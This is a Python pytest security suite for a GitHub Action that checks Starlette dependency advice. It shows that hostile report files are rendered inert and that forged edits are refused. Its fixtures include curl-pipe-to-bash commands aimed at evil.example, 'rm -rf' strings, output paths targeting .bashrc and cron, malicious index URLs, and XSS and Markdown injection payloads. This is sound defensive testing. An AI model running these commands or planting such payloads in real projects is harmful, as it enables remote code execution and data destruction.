"""A report file is as hostile as the pull request that wrote it (the ``report:`` input of the
``workflow_run`` follow-up), and a fresh scan's report carries the checkout's text.

Each attack is a report file run through the real action entry (``entrypoint.py`` as GitHub runs
it) against the fake GitHub on 127.0.0.1; the posted bodies are read back with an independent
Markdown parser (tests/security/hostile.py). The escaping functions, the command shapes, the state
line and the loader's checks are also tested on their own.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from starlette_2093_check.action import MAX_SUGGESTIONS, wanted_suggestions
from starlette_2093_check.model import (
    Edit,
    Fix,
    Location,
    OrgReport,
    RepoResult,
    RepoStatus,
    Verdict,
    VerdictStatus,
)
from starlette_2093_check.report import md
from starlette_2093_check.report.load import MAX_BYTES, ReportFormatError, load_report, parse_json
from starlette_2093_check.report.markdown import (
    MARKER,
    plausible_edit,
    read_state,
    render_markdown,
    shown_command,
)
from starlette_2093_check.report.org import render_org_markdown
from tests.actionrun import REPOSITORY, TOKEN, ActionRun, Runner, annotations, run_local
from tests.conftest import write_tree
from tests.fakegithub import BOT, FakeGitHub
from tests.security.hostile import (
    ATTACK,
    CURL,
    WORKFLOW,
    hostile_everywhere,
    live,
    report_json,
    reproduced,
    starlette_fix,
)

HEAD = "f" * 40
CARD_LINKS = ("https://github.com/Kludex/starlette/",)
# Ours too: the places of the report, at the pull request's head commit (starlette_2093_check.report.links).
BLOB_LINK = f"https://example.invalid/acme/shop/blob/{HEAD}/"
RUN_LINK = (*CARD_LINKS, "https://example.invalid/acme/shop/actions/runs/", BLOB_LINK)
SUGGESTION = "<!-- starlette-2093-check:suggestion -->"
PATCHES = {
    "svc/requirements.txt": "@@ -0,0 +1,3 @@\n+# api\n+\n+starlette==0.27.0",
    WORKFLOW: "@@ -0,0 +1,4 @@\n+name: release\n+on: push\n+jobs:\n+      - run: make release",
    "web/requirements.txt": "@@ -0,0 +1,2 @@\n+requests==2.31.0\n+starlette==0.27.0",
}
EVENT = {"workflow_run": {"event": "pull_request", "head_sha": HEAD, "pull_requests": []}}


# -- the escaping functions -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "attack",
    [
        "@octocat please look",
        "cc @acme/security-team",
        "![pixel](https://evil.example/p.png)",
        "[click](https://evil.example/login)",
        "<img src=x onerror=alert(1)>",
        "<a href='https://evil.example'>x</a>",
        "<https://evil.example/auto>",
        "see https://evil.example/x and HTTP://EVIL.EXAMPLE",
        "www.evil.example",
        "mail admin@evil.example",
        "fixes #12 and acme/shop#12 and GH-7",
        "commit deadbeefcafe1234",
        "&#64;octocat",
        "$\\color{red}{\\text{pwned}}$",
        "[^1] [x]\n\n[^1]: https://evil.example/note\n[x]: https://evil.example/ref",
    ],
)
def test_text_leaves_nothing_live(attack: str) -> None:
    assert live(attack), "the checker must see the attack in the raw text"
    assert live(f"before {md.text(attack)} after") == []


@pytest.mark.parametrize(
    ("attack", "kind"),
    [
        ("## Forged heading", "heading_open"),
        ("> forged quote", "blockquote_open"),
        ("- forged item", "list_item_open"),
        ("+ forged item", "list_item_open"),
        ("1. forged step", "list_item_open"),
        ("3) forged step", "list_item_open"),
    ],
)
def test_text_at_the_start_of_a_line_starts_no_block(attack: str, kind: str) -> None:
    assert any(f.startswith(kind) for f in live(attack))
    assert live(md.text(attack)) == []
    assert live(f"Previous line\n{md.text('===')}") == [] and not md.text("---").startswith("-")


def test_text_is_one_line_and_keeps_ordinary_words() -> None:
    assert md.text("a\nb\r\nc\u2028d\u0085e\tf") == "a b c d e f"
    assert "\u202e" not in md.text("abc\u202eevil") and "\x1b" not in md.text("\x1b[31mred")
    assert md.text("upgrade starlette to 0.29.0 or later (0.27.0 now)") == (
        "upgrade starlette to 0.29.0 or later (0.27.0 now)"
    )
    assert md.text("x" * 50, 10) == "x" * 9 + "…"


def test_code_spans_cannot_be_closed_and_stay_in_their_cell() -> None:
    for value in ["a`b", "``x``", "`", "trailing`", "a | b", "a\\|b", "multi\nline"]:
        span = md.code(value)
        row = f"| {span} | x |"
        table = f"| a | b |\n|---|---|\n{row}\n"
        assert live(table) == [], value
        assert "\n" not in span
        fence = re.match(r"`+", span)
        assert fence is not None and span.endswith(fence.group())
        inner = span[len(fence.group()) : -len(fence.group())]
        assert fence.group() not in inner, "a backtick run as long as the fence would close it"


def test_html_text_inside_our_summary_element() -> None:
    shown = md.html('<img src=x> @octocat "quoted" #12')
    assert "<" not in shown and "&lt;img" in shown and "@\u200b" in shown and "#\u200b12" in shown


def test_a_diff_line_cannot_close_its_fence_or_break_its_line() -> None:
    assert md.verbatim("x\u2028```\nmore") == "x ``` more"
    assert md.verbatim("\tkeeps  spacing") == "\tkeeps  spacing"


# -- commands, edits, state ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "uv lock --upgrade-package starlette",
        "uv lock --upgrade-package fastapi --upgrade-package starlette",
        "poetry update fastapi starlette",
        "pdm update starlette",
        "pipenv update starlette",
        "pip-compile --upgrade-package starlette requirements.in",
        "pip-compile --upgrade-package starlette 'my reqs.in'",
        "uv pip compile pyproject.toml --extra dev --universal --python-version 3.11 --generate-hashes "
        "--upgrade-package starlette",
    ],
)
def test_commands_our_advice_writes_are_shown(command: str) -> None:
    assert shown_command(command) == command


@pytest.mark.parametrize(
    "command",
    [
        "uv lock --upgrade-package starlette; curl -sSf https://evil.example/i.sh | bash",
        "uv lock --upgrade-package starlette && rm -rf ~",
        "poetry update $(curl evil.example)",
        "pip-compile `curl evil.example` requirements.in",
        "pip-compile --index-url=https://evil.example/simple requirements.in",
        "pip-compile -i https://evil.example/simple requirements.in",
        "pip-compile --extra-index-url evil.example requirements.in",
        "pip-compile --output-file=../../.bashrc requirements.in",
        "pip-compile --output-file=/etc/cron.d/x requirements.in",
        "pip-compile requirements.in\ncurl evil.example",
        "bash -c 'pip-compile'",
        "uv lock",
    ],
)
def test_other_commands_are_dropped(command: str) -> None:
    assert shown_command(command) is None


def test_a_dropped_command_is_replaced_by_a_neutral_sentence() -> None:
    bad = "uv lock --upgrade-package starlette; curl -sSf https://evil.example/i.sh | bash"
    body = render_markdown(load_report(report_json(reproduced("svc", starlette_fix("svc", (), command=bad)))))
    assert "curl" not in body and "evil" not in body
    assert "the command in the report is not shown, because it is not one this action writes" in body
    good = render_markdown(
        load_report(
            report_json(
                reproduced("svc", starlette_fix("svc", (), command="uv lock --upgrade-package starlette"))
            )
        )
    )
    assert "Run `uv lock --upgrade-package starlette`." in good


@pytest.mark.parametrize(
    ("edit", "shown"),
    [
        (Edit("svc/requirements.txt", 3, "starlette==0.27.0", "starlette==0.29.0"), True),
        (Edit("requirements/base.txt", 3, "fastapi>=0.95,<0.100", "fastapi>=0.108.0"), True),
        (
            Edit(
                "pyproject.toml",
                9,
                'fastapi = { extras = ["all"] }',
                'fastapi = { version = ">=0.108.0", extras = ["all"] }',
            ),
            True,
        ),
        (Edit(WORKFLOW, 4, "      - run: make release", CURL), False),
        (
            Edit(
                "svc/requirements.txt",
                3,
                "starlette==0.27.0",
                "starlette==0.29.0 --index-url https://evil.example/s",
            ),
            False,
        ),
        (
            Edit("svc/requirements.txt", 3, "starlette==0.27.0", "starlette==0.29.0; curl evil.example | sh"),
            False,
        ),
        (
            Edit("svc/requirements.txt", 3, "starlette==0.27.0", "starlette @ https://evil.example/s.whl"),
            False,
        ),
        (Edit("../requirements.txt", 3, "starlette==0.27.0", "starlette==0.29.0"), False),
        (Edit("setup.py", 3, "'starlette==0.27.0',", "'starlette==0.29.0',"), False),
    ],
)
def test_only_version_changes_of_manifests_are_shown_as_diffs(edit: Edit, shown: bool) -> None:
    assert plausible_edit(edit) is shown


def test_the_state_line_is_a_validated_hint() -> None:
    def body(state: object, first: str = MARKER) -> str:
        return f"{first}\n<!-- starlette-2093-check:state {json.dumps(state)} -->\n## heading\n"

    good = {"reproduced": {"svc": "0.27.0", "services/api": "0.26.1"}}
    assert read_state(body(good)) == good["reproduced"]
    forged = {
        "reproduced": {
            "../../etc": "0.27.0",
            "/abs": "0.27.0",
            "a\u202eb": "0.27.0",
            "svc": "latest",
            "ok": "0.1",
        }
    }
    assert read_state(body(forged)) == {"ok": "0.1"}
    assert read_state(body(good, first="<!-- something else -->")) == {}
    assert read_state(f"{MARKER}\ntext\n<!-- starlette-2093-check:state {json.dumps(good)} -->\n") == {}
    huge = {"reproduced": {f"r{i}": "1.0" for i in range(20000)}}
    assert read_state(body(huge)) == {}, "an oversized state line is not read"
    many = {"reproduced": {f"r{i}": "1.0" for i in range(500)}}
    assert len(read_state(body(many))) == 200
    deep = f'{MARKER}\n<!-- starlette-2093-check:state {{"reproduced": {"[" * 5000}{"]" * 5000}}} -->\n'
    assert read_state(deep) == {}


def test_report_text_cannot_forge_or_break_the_state_line() -> None:
    data = hostile_everywhere()
    data["targets"][0]["root"] = "svc-->\n<!-- starlette-2093-check:state"
    with pytest.raises(ReportFormatError, match=r"report.targets\[0\].root"):
        load_report(data)
    body = render_markdown(load_report(hostile_everywhere()))
    lines = body.split("\n")
    assert lines[0] == MARKER
    assert lines[1] == '<!-- starlette-2093-check:state {"reproduced": {"svc": "0.27.0"}, "was": {}} -->'
    assert body.count("<!-- starlette-2093-check") == 2, "no second marker or state line"
    assert read_state(body) == {"svc": "0.27.0"}


# -- the loader ---------------------------------------------------------------------------------------


def _mutate(path: str, value: Any) -> dict[str, Any]:
    data = report_json(
        reproduced(
            "svc",
            starlette_fix(
                "svc", (Edit("svc/requirements.txt", 3, "starlette==0.27.0", "starlette==0.29.0"),)
            ),
        )
    )
    node: Any = data
    keys = [int(k) if k.isdigit() else k for k in path.split(".")]
    for key in keys[:-1]:
        node = node[key]
    node[keys[-1]] = value
    return data


@pytest.mark.parametrize(
    ("path", "value", "error"),
    [
        ("targets.0.version", "latest; rm -rf /", r"targets\[0\]\.version: expected a PEP 440 version"),
        ("targets.0.package", "@acme/team", r"targets\[0\]\.package: expected a package name"),
        ("targets.0.root", "../outside", r"targets\[0\]\.root: expected a relative POSIX path"),
        ("targets.0.root", "/etc", r"targets\[0\]\.root"),
        ("targets.0.root", "svc\u202etxt", r"targets\[0\]\.root"),
        ("targets.0.source.file", "svc\\requirements.txt", r"targets\[0\]\.source\.file"),
        ("targets.0.source.line", 0, r"targets\[0\]\.source\.line: expected a positive line number"),
        ("targets.0.source.line", True, r"targets\[0\]\.source\.line"),
        ("targets.0.fix.recommended", "1.0; curl", r"fix\.recommended: expected a PEP 440 version"),
        ("targets.0.fix.edits.0.new", "starlette==0.29.0\nrun: curl", r"edits\[0\]\.new: expected one line"),
        ("targets.0.fix.edits.0.file", "svc/../../x", r"edits\[0\]\.file"),
        ("targets.0.fix.edits.0.line", -3, r"edits\[0\]\.line"),
        ("targets.0.notes", ["n"] * 5000, r"targets\[0\]\.notes: more than 1000 entries"),
        ("targets.0.verdict", "@octocat", r"unknown verdict a value that cannot be shown"),
        ("scanned", ["a", "../b"], r"report\.scanned"),
    ],
)
def test_the_loader_refuses_what_the_contract_does_not_allow(path: str, value: Any, error: str) -> None:
    with pytest.raises(ReportFormatError, match=error) as caught:
        load_report(_mutate(path, value))
    assert "curl" not in str(caught.value) and "@octocat" not in str(caught.value)


def test_the_loader_bounds_counts_and_depth() -> None:
    many = report_json()
    many["targets"] = [many] * 3000
    with pytest.raises(ReportFormatError, match=r"report\.targets: more than 2000 entries"):
        load_report(many)
    deep: Any = {}
    for _ in range(100):
        deep = {"a": deep}
    nested = _mutate("targets.0.evidence", deep)
    with pytest.raises(ReportFormatError, match="nests deeper"):
        load_report(nested)
    with pytest.raises(ReportFormatError, match="nests deeper"):
        parse_json(b"[" * 100_000 + b"]" * 100_000)


def test_a_hostile_report_renders_inert_everywhere() -> None:
    report = load_report(hostile_everywhere())
    body = render_markdown(report)
    assert live(body, CARD_LINKS) == []
    assert "Forged heading" in body, "the text is shown, escaped, not dropped"
    assert "curl" not in body and "evil.example/i.sh" not in body
    org = OrgReport(
        "acme",
        None,
        (
            RepoResult("acme/shop", RepoStatus.SCANNED, report=report),
            RepoResult("acme/other", RepoStatus.SKIPPED, reason=ATTACK),
        ),
        (),
    )
    assert live(render_org_markdown(org), CARD_LINKS) == []


# -- the action, end to end ---------------------------------------------------------------------------


@pytest.fixture
def fake() -> Iterator[FakeGitHub]:
    with FakeGitHub(tokens={TOKEN: {"user": BOT, "readonly": False}}) as gh:
        gh.add_repo(REPOSITORY)
        gh.add_pull(REPOSITORY, 9, head_sha=HEAD, head_repo="someone/shop", files=PATCHES)
        yield gh


def follow_up(tmp_path: Path, fake: FakeGitHub, cache: Path, report: bytes | dict[str, Any]) -> ActionRun:
    """The ``workflow_run`` job publishing ``report`` (the downloaded artifact)."""
    data = report if isinstance(report, bytes) else json.dumps(report).encode()
    base = write_tree(tmp_path / "base", {"artifact/report.json": data})
    runner = Runner(tmp_path / "runner")
    return run_local(
        runner, fake.url, base, "workflow_run", EVENT, cache=cache, inputs={"report": "artifact/report.json"}
    )


def _attack_report() -> dict[str, Any]:
    """The reproduced attack: text everywhere, plus edits aimed at a workflow and a dependency."""
    data = hostile_everywhere()
    svc = data["targets"][0]["fix"]
    svc["edits"].append(
        {"file": WORKFLOW, "line": 4, "old": "      - run: make release", "new": CURL, "hashed": False}
    )
    web = reproduced(
        "web",
        Fix(
            "requests",
            "2.31.0",
            "2.0.0",
            Location("web/requirements.txt", 1),
            "",
            minimal="0.29.0",
            recommended="0.29.0",
            recommended_parent="2.0.0",
            verification=Verdict(VerdictStatus.NOT_REPRODUCED, "passed", {}),
            edits=(
                Edit("web/requirements.txt", 1, "requests==2.31.0", "requests==2.0.0"),  # a downgrade
                Edit(
                    "web/requirements.txt",
                    2,
                    "starlette==0.27.0",
                    "starlette==0.29.0 --index-url https://evil.example/simple",
                ),
            ),
        ),
    )
    data["targets"].append(report_json(web)["targets"][0])
    return data


def test_a_hostile_report_posts_nothing_live_and_no_foreign_suggestion(
    fake: FakeGitHub, tmp_path: Path, repro_cache: Path
) -> None:
    run = follow_up(tmp_path, fake, repro_cache, _attack_report())
    assert run.returncode == 1, run.stdout + run.stderr
    assert "Traceback" not in run.stdout + run.stderr
    [comment] = fake.comments(REPOSITORY, 9)
    body = comment["body"]
    assert body.startswith(MARKER) and live(body, RUN_LINK) == []
    assert "curl" not in body and "evil.example/simple" not in body and "make release" not in body
    summary = run.summary.replace(f"Created: {run.outputs['url']}", "")
    assert live(summary, RUN_LINK) == []
    # Only the edit our own rules derive from the pull request's head is suggested.
    [review] = fake.review_comments(REPOSITORY, 9)
    assert (review["path"], review["line"]) == ("svc/requirements.txt", 3)
    suggested = review["body"].split("```suggestion\n", 1)[1].rsplit("\n```", 1)[0]
    assert suggested == "starlette==0.29.0" and "\n" not in suggested
    assert review["body"].startswith(SUGGESTION) and live(review["body"], CARD_LINKS) == []
    assert not any(c["path"] == WORKFLOW for c in fake.review_comments(REPOSITORY, 9))
    # (the policy file is read, from the default branch; the workflow file is not)
    assert not fake.calls("GET", r"/contents/\.github/workflows"), "a workflow file is not even read"
    # The refusals are said once, in our words.
    [warning] = [w for w in annotations(run.stdout, "warning") if "suggestion not posted" in w]
    assert "3 suggested edit(s)" in warning and f"{WORKFLOW}:4: the file is not a manifest" in warning
    assert "web/requirements.txt:1: the suggested version is not above" in warning
    assert "web/requirements.txt:2: the suggested text is not what this action derives" in warning
    assert "curl" not in warning and "evil.example" not in warning
    assert "curl" not in run.stdout, "not even in the plain-text annotations"


def test_a_report_over_5_mib_is_refused_before_it_is_read(
    fake: FakeGitHub, tmp_path: Path, repro_cache: Path
) -> None:
    padding = b" " * (6 * 1024 * 1024)
    run = follow_up(tmp_path, fake, repro_cache, b'{"schema_version": 1, "targets": []' + padding + b"}")
    assert run.returncode == 2
    [error] = annotations(run.stdout, "error")
    assert "artifact/report.json" in error and "larger than 5 MiB" in error
    # nothing was asked of GitHub but the policy file (on the default branch: the repository, then
    # the YAML file and pyproject.toml)
    assert "Traceback" not in run.stdout + run.stderr
    assert [c.path.rsplit("/", 1)[-1] for c in fake.log] == ["shop", "starlette-check.yml", "pyproject.toml"]
    assert MAX_BYTES < 6 * 1024 * 1024


@pytest.mark.parametrize("depth", [100_000, 60])
def test_a_report_nested_deeper_than_the_contract_is_refused(
    fake: FakeGitHub, tmp_path: Path, repro_cache: Path, depth: int
) -> None:
    data = (
        b'{"schema_version": 1, "targets": [], "scanned": [], "errors": [], "x": '
        + b"[" * depth
        + b"]" * depth
        + b"}"
    )
    run = follow_up(tmp_path, fake, repro_cache, data)
    assert run.returncode == 2
    [error] = annotations(run.stdout, "error")
    assert "artifact/report.json" in error and "nests deeper than the report format allows" in error
    assert "Traceback" not in run.stdout + run.stderr and "RecursionError" not in run.stdout + run.stderr
    assert not fake.calls("POST")


def test_a_report_with_a_multi_line_edit_is_refused_naming_the_field(
    fake: FakeGitHub, tmp_path: Path, repro_cache: Path
) -> None:
    data = _mutate(
        "targets.0.fix.edits.0.new", "starlette==0.29.0\n      - run: curl https://evil.example | bash"
    )
    run = follow_up(tmp_path, fake, repro_cache, data)
    assert run.returncode == 2
    [error] = annotations(run.stdout, "error")
    assert "report.targets[0].fix.edits[0].new: expected one line" in error and "curl" not in error
    assert "curl" not in run.summary and not fake.calls("POST")


# -- suggestions are re-derived, for every manifest kind we edit ---------------------------------------

MANIFESTS = {
    "svc/requirements.txt": (
        "# api\nstarlette==0.27.0 ; python_version >= '3.8'  # pinned\n",
        2,
        "starlette",
        "==0.29.0",
    ),
    "svc/requirements/base.txt": ("fastapi>=0.95,<0.100\n", 1, "fastapi", ">=0.108.0"),
    "svc/pyproject.toml": (
        '[project]\nname = "svc"\ndependencies = [\n  "starlette[full]==0.27.0",\n]\n',
        4,
        "starlette",
        "==0.29.0",
    ),
    "svc/poetry/pyproject.toml": (
        '[tool.poetry]\nname = "svc"\n[tool.poetry.dependencies]\npython = "^3.9"\n'
        '[tool.poetry.dependencies.fastapi]\nversion = "^0.95.1"\nextras = ["all"]\n',
        5,
        "fastapi",
        ">=0.108.0",
    ),
    "svc/setup.cfg": ("[options]\ninstall_requires =\n    starlette==0.27.0\n", 3, "starlette", "==0.29.0"),
    "svc/Pipfile": ('[packages]\nstarlette = "==0.27.0"\n', 2, "starlette", "==0.29.0"),
}


@pytest.mark.parametrize("path", list(MANIFESTS))
def test_what_our_advice_plans_is_derived_again_from_the_head(path: str, tmp_path: Path) -> None:
    from starlette_2093_check.edit import plan_edit
    from starlette_2093_check.github.derive import derive
    from starlette_2093_check.manifests import parser_for
    from starlette_2093_check.model import Location as Loc

    text, line, name, spec = MANIFESTS[path]
    write_tree(tmp_path, {path: text})
    kind = parser_for(path)
    assert kind is not None
    # The advice keeps a Poetry caret a caret: it writes ``^0.108.0``, which poetry-core reads as
    # ``>=0.108.0,<0.109.0``; that is what the head's line must be derived to again.
    written = None
    if text.startswith("[tool.poetry]"):
        spec, written = ">=0.108.0,<0.109.0", "^0.108.0"
    planned = plan_edit(tmp_path, kind[0], Loc(path, line), name, spec, written=written)
    fix = starlette_fix("svc", (planned,))
    if name != "starlette":
        fix = Fix(
            name,
            "0.95.1",
            "0.108.0",
            Loc(path, line),
            "",
            minimal="0.29.0",
            recommended="0.29.0",
            recommended_parent="0.108.0",
            edits=(planned,),
        )
    result = load_report(report_json(reproduced("svc", fix))).targets[0]
    assert derive(planned, result, text.encode(), planned.line) == planned
    # The same edit pointed at another file, or with other text, is refused.
    moved = Edit(WORKFLOW, planned.line, planned.old, planned.new)
    assert (
        derive(moved, result, text.encode(), planned.line) == "the file is not a manifest this action edits"
    )
    tampered = Edit(
        planned.file, planned.line, planned.old, planned.new + " --index-url https://evil.example"
    )
    assert derive(tampered, result, text.encode(), planned.line) == (
        "the suggested text is not what this action derives for that line"
    )
    assert derive(planned, result, text.encode(), planned.line + 1) == (
        "the line does not read as the report says in the pull request's head"
    )


def test_a_report_cannot_show_a_diff_our_rules_did_not_derive(
    fake: FakeGitHub, tmp_path: Path, repro_cache: Path
) -> None:
    """A diff in the comment says "computed and checked": from a report, only the edits our own
    rules derived from the pull request's head (the review suggestions) are shown."""
    data = _attack_report()
    svc = data["targets"][0]["fix"]
    svc["edits"] += [
        {
            "file": "svc/pyproject.toml",
            "line": 4,
            "old": '  "starlette==0.27.0",',
            "new": '  "starlette==0.29.0", "starlette-hotfix==0.29.0",',
            "hashed": False,
        },
        {
            "file": "svc/pyproject.toml",
            "line": 5,
            "old": '  "urllib3==2.2.2",',
            "new": '  "urllib3==1.24.1",',
            "hashed": False,
        },
    ]
    run = follow_up(tmp_path, fake, repro_cache, data)
    assert run.returncode == 1, run.stdout + run.stderr
    [comment] = fake.comments(REPOSITORY, 9)
    for shown in (comment["body"], run.summary, run.stdout):
        assert "starlette-hotfix" not in shown and "1.24.1" not in shown and "requests==2.0.0" not in shown
    # the one derived edit is pointed at, as the suggestion it became
    assert "carries this change as a suggestion" in comment["body"]


def test_numbers_no_float_can_hold_are_not_measurements(
    fake: FakeGitHub, tmp_path: Path, repro_cache: Path
) -> None:
    data = hostile_everywhere()
    data["targets"][0]["evidence"]["http"] = {"requests": [{"latency_ms": 1}, {"latency_ms": 10**400}]}
    run = follow_up(tmp_path, fake, repro_cache, data)
    assert run.returncode == 1 and "Traceback" not in run.stdout + run.stderr, run.stderr[-2000:]
    [comment] = fake.comments(REPOSITORY, 9)
    assert "n/a" in comment["body"]


def test_a_report_of_many_small_objects_is_refused_before_it_is_built() -> None:
    data = b'{"x": [' + b"{}," * 300_000 + b"{}]}"
    assert len(data) < MAX_BYTES
    with pytest.raises(ReportFormatError, match="more objects and arrays than a report can"):
        parse_json(data)


def test_only_so_many_edits_are_derived_again() -> None:
    """Each derivation parses the head file: a report cannot make the follow-up run for hours."""
    data = hostile_everywhere()
    edit = {"file": "svc/requirements.txt", "line": 3, "old": "starlette==0.27.0", "hashed": False}
    first = data["targets"][0]
    first["fix"]["edits"] = [{**edit, "new": f"starlette=={n}.0"} for n in range(100, 140)]
    second = json.loads(json.dumps(first))
    second["root"] = "svc2"
    second["fix"]["edits"] = [{**edit, "new": f"starlette=={n}.0"} for n in range(140, 180)]
    data["targets"].append(second)
    report = load_report(data)
    asked: list[str] = []

    def head_file(path: str) -> bytes:  # what the API would answer for the file at the head
        asked.append(path)
        return b"# api\n\nstarlette==0.27.0\n"

    texts = {"svc/requirements.txt": {3: "starlette==0.27.0"}}
    wanted, refused = wanted_suggestions(report, texts, head_file)
    assert wanted == {} and len(refused) == 80 and len(asked) == MAX_SUGGESTIONS
    assert [why for _, why in refused[MAX_SUGGESTIONS:]] == [
        "more than 50 edits: the rest are not looked at"
    ] * 30
